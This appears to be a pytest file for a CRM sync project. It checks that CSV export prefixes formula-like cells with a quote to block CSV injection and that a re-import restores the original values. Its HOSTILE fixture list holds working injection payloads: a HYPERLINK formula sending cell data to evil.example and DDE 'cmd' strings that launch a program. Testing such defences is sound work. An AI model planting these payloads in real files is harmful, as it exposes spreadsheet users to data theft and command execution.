"""CSV export neutralises cells a spreadsheet would run as formulas (OWASP's CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from crm_sync.csv_export import export_csv, spreadsheet_safe
from crm_sync.csv_io import CsvImporter
from crm_sync.db import Database
from crm_sync.models import Customer
from crm_sync.phones import PhoneNormaliser
from crm_sync.settings import CrmConfig

# The cells of the attack, as a customer could have typed them into a web form.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def importer(database: Database, normaliser: PhoneNormaliser, crm_config: CrmConfig) -> CsvImporter:
    return CsvImporter(database, normaliser, crm_config)


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_cell_is_prefixed_with_a_quote(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["Nasrin Tehrani", "کاوه مرادی", "mobile:+98 21 8877 6655", "", 12]
)
def test_ordinary_cells_are_left_alone(cell: object) -> None:
    assert spreadsheet_safe(cell) == cell


async def test_exported_customers_carry_no_formula_and_import_back_unchanged(
    database: Database, importer: CsvImporter
) -> None:
    async with database.sessions() as session:
        for n, cell in enumerate(HOSTILE):
            session.add(Customer(ref=f"X-{n}", name=cell, notes=cell, address=cell))
        await session.commit()
    out = io.StringIO()
    assert await export_csv(database, "customers", out) == len(HOSTILE)
    rows = list(csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff"), newline="")))
    header, body = rows[0], rows[1:]
    for row in body:
        for column in ("name", "notes", "address"):
            value = row[header.index(column)]
            assert value[:1] == "'" and value[1:2] in ("=", "+", "-", "@", "\t", "\r"), (
                column,
                value,
                row,
            )
    # The quote is the export's, not the customer's: an import takes it off again.
    async with database.sessions() as session:
        for customer in (await session.scalars(select(Customer))).all():
            await session.delete(customer)
        await session.commit()
    report = await importer.import_bytes(out.getvalue().encode(), "customers")
    assert report.errors == []
    async with database.sessions() as session:
        names = sorted((await session.scalars(select(Customer.name))).all())
    assert names == sorted(cell.strip() for cell in HOSTILE)
